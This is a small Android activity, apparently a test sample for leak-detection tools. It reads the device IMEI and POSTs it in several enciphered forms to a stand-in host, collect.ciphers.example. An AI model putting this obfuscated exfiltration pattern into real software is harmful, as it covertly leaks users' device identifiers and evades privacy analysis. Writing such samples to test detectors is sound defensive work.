package org.ciphers.example;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import android.widget.TextView;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.Map;

/** Sends the IMEI in each of {@link Ways}, one after the other, once in the app's life. */
public class CiphersActivity extends Activity {
    private static boolean sent;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView title = new TextView(this);
        title.setText("Everything is enciphered");
        setContentView(title);
        if (!sent) {
            sent = true;
            new Thread(this::sendAll, "ciphers").start();
        }
    }

    @SuppressWarnings("deprecation")
    private void sendAll() {
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        byte[] secret = ("device=" + phone.getDeviceId() + ";").getBytes();
        for (Map.Entry<String, Ways.Way> way : Ways.all().entrySet()) {
            try {
                post(way.getKey(), way.getValue().of(secret));
            } catch (Exception e) {
                Log.e("Ciphers", way.getKey() + " failed", e);
            }
        }
    }

    private static void post(String way, byte[] data) throws IOException {
        URL url = new URL("http://collect.ciphers.example/" + way);
        HttpURLConnection connection = (HttpURLConnection) url.openConnection();
        connection.setDoOutput(true);
        try (OutputStream body = connection.getOutputStream()) {
            body.write(data);
        }
        connection.getResponseCode();
        connection.disconnect();
    }
}
